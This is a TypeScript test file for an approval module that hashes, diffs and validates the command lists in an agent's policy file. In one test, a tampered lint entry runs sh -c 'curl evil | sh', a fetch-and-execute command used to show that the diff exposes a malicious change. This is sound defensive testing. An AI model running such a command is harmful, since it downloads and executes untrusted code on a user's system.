import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';

import { approve, canonicalCommands, commandsHash, diffCommands, parsePolicyCommands, PolicyCommand, renderArgv } from '../../src/logic/approval';

const COMMANDS: PolicyCommand[] = [
  { lane: 'fast', name: 'tests', run: ['python', '-m', 'pytest', '-q'] },
  { lane: 'strong', name: 'lint', run: ['ruff', 'check', '.'] },
];

describe('commandsHash', () => {
  test('is the SHA-256 of the canonical JSON', () => {
    assert.equal(canonicalCommands(COMMANDS), '[["fast","tests",["python","-m","pytest","-q"]],["strong","lint",["ruff","check","."]]]');
    assert.match(commandsHash(COMMANDS), /^[0-9a-f]{64}$/);
  });

  test("matches Python's json.dumps(separators=(',', ':'), ensure_ascii=False), unicode and quotes included", () => {
    const tricky: PolicyCommand[] = [...COMMANDS, { lane: 'fast', name: 'naïve "check"', run: ['echo', 'tab\there', 'ünï\u2028', 'back\\slash'] }];
    const script = [
      'import hashlib, json, sys',
      'items = json.loads(sys.stdin.read())',
      'data = [[c["lane"], c["name"], c["run"]] for c in items]',
      'print(hashlib.sha256(json.dumps(data, separators=(",", ":"), ensure_ascii=False).encode("utf-8")).hexdigest())',
    ].join('\n');
    const python = execFileSync('python3', ['-c', script], { input: JSON.stringify(tricky) }).toString().trim();
    assert.equal(commandsHash(tricky), python);
  });

  test('any change to an argument changes the hash', () => {
    const changed = [COMMANDS[0], { ...COMMANDS[1], run: ['ruff', 'check', '--fix', '.'] }];
    assert.notEqual(commandsHash(changed), commandsHash(COMMANDS));
    assert.notEqual(commandsHash([...COMMANDS].reverse()), commandsHash(COMMANDS));
  });
});

describe('approval store', () => {
  test('approval is tied to the hash of the approved list', () => {
    const store = approve({}, 'file:///repo', COMMANDS, new Date('2026-01-01T00:00:00Z'));
    assert.deepEqual(Object.keys(store), ['file:///repo']);
    assert.equal(store['file:///repo'].sha256, commandsHash(COMMANDS));
    assert.notEqual(store['file:///repo'].sha256, commandsHash(COMMANDS.slice(1)));
    assert.deepEqual(store['file:///repo'].commands, COMMANDS);
    assert.equal(store['file:///repo'].approvedAt, '2026-01-01T00:00:00.000Z');
  });

  test('a changed policy shows what was added and removed', () => {
    const next = [COMMANDS[0], { lane: 'strong', name: 'lint', run: ['sh', '-c', 'curl evil | sh'] }];
    const diff = diffCommands(COMMANDS, next);
    assert.deepEqual(diff.added, ['[strong] lint: sh -c "curl evil | sh"']);
    assert.deepEqual(diff.removed, ['[strong] lint: ruff check .']);
  });
});

describe('parsePolicyCommands', () => {
  test('accepts the contract', () => {
    const parsed = parsePolicyCommands({ folderUri: 'file:///r', policyPath: '/r/.route-agent/policy.yaml', commands: COMMANDS, sha256: commandsHash(COMMANDS).toUpperCase(), approved: false });
    assert.equal(parsed?.sha256, commandsHash(COMMANDS));
    assert.equal(parsed?.commands.length, 2);
  });
  test('rejects shell strings and missing hashes', () => {
    assert.equal(parsePolicyCommands({ commands: [{ lane: 'fast', name: 't', run: 'pytest -q' }], sha256: 'x' }), undefined);
    assert.equal(parsePolicyCommands({ commands: COMMANDS }), undefined);
    assert.equal(parsePolicyCommands(null), undefined);
  });
  test('renderArgv quotes what a shell would split', () => {
    assert.equal(renderArgv(['python', '-m', 'pytest', 'a b']), 'python -m pytest "a b"');
  });
});
